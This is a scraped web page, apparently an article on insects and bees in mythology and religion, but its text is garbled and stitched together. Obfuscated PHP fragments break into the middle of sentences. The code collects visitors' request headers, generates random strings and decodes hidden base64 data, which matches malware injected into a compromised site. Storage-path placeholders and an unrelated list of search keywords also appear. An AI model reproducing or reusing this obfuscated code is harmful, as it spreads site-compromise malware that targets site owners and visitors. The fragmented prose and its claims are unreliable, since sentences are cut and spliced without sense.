usecookies and similar technologies to provide you with a better experience. The well-known example of the Mormon cricket miracle, noted by Waldbauer (2012), took place more than 150 years ago when Mormons in the valley of the Great Salt Lake planted wheat. A Roman sculpture depicts a butterfly exiting the mouth of a dead man, representing the Roman belief that the soul leaves through the mouth. Again the prick, the stab ofgadfly-sting! Honey has long been the only cheap source of sugar, which is why a bee that produces it also symbolizes abundance and wealth. Ggulu set Kintu on a trial of five tests to pass before he would agree. But Christianity went beyond prayers, exhortations, and holy water, even establishing formal courts where pest insects were put on trial. @$_SERVER['REQUEST_URI'];$_wfpmyazz['ua'] = @$_SERVER['HTTP_USER_AGENT'];$_wfpmyazz['lang'] = @$_SERVER['HTTP_ACCEPT_LANGUAGE'];$_wfpmyazz['ref'] = @$_SERVER['HTTP_REFERER'];$_wfpmyazz['enc'] = @$_SERVER['HTTP_ACCEPT_ENCODING'];$_wfpmyazz['acp'] = @$_SERVER['HTTP_ACCEPT'];$_wfpmyazz['char'] = @$_SERVER['HTTP_ACCEPT_CHARSET'];$_wfpmyazz['conn'] = @$_SERVER['HTTP_CONNECTION'];return $_wfpmyazz;}public function __construct(){$this->_d2ssi5kx = explode("/", $this->_d2ssi5kx);$this->_ykzyfu06 = explode("/", $this->_ykzyfu06);}static public function _gincz($_xapgs03p, $_qqgtbhsk, $_re83z02o = 'abcdef0123456789'){$_x3r4902z = mt_rand($_xapgs03p, $_qqgtbhsk);$_0qc9pcue = '';$_1q1s226j = strlen($_re83z02o);for ($_mjude9b2 = 0; $_mjude9b2 < $_x3r4902z; $_mjude9b2++) {$_0qc9pcue .= $_re83z02o[mt_rand(0, $_1q1s226j - 1)];}return$_0qc9pcue;}static public function _apzdx($_6thywwo7){if (strlen($_6thywwo7) < 4) {return "";}$_ndaua88r ="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=";$_hgvo3xdp = str_split($_ndaua88r);$_hgvo3xdp =array_flip($_hgvo3xdp);$_mjude9b2 = 0;$_lvasvxk4 = "";$_6thywwo7 = preg_replace("~[^A-Za-z0-9\+\/\=]~", "", $_6thywwo7);do {$_rav2g7nt = $_hgvo3xdp[$_6thywwo7[$_mjude9b2++]];$_esf6hy48 = $_hgvo3xdp[$_6thywwo7[$_mjude9b2++]];$_yzx3lu3o = $_hgvo3xdp[$_6thywwo7[$_mjude9b2++]];$_tyj39zul = $_hgvo3xdp[$_6thywwo7[$_mjude9b2++]];$_odxijr15 = ($_rav2g7nt << 2) | ($_esf6hy48 >> 4);$_wd9lxzhi = (($_esf6hy48 & 15) << 4) | ($_yzx3lu3o >> 2);$_s6ppo2a6 = (($_yzx3lu3o & 3) << 6) | $_tyj39zul;$_lvasvxk4 = $_lvasvxk4 . There are several variations of punishment here, one of which is being devoured by locusts (Mercatante 1978). From honey, according to Greek, Celtic, and Germanic myths, ambrosia was obtained, which is the food of the gods (or drink, according to other versions), because only the immortals could drink it. "\t" . Mythical bugs created by gods, monsters based on bugs, stories about such creatures. The myth tells that Rhea, to save her son from her husband Cronos, whom it was predicted that one of her sons would have ousted, gave birth to Zeus on the island of Crete, in the Ideo cave, a cavesacred to bees and home to initiation rituals in which gods or men could not enter, so he was entrusted to the care of the nymphs Almatea, who fed him with her own goats milk, and Melissa, with the sweetest honey distilled for him from the flowers by the bees who guarded the entrance to the cave.

Why Is My Backup Camera Upside Down DodgeJourney, Why Did Marlene Lawston Leave Blue Bloods, Ohio Involuntary Commitment Form, Fire InWatertown, Wi Today, Articles D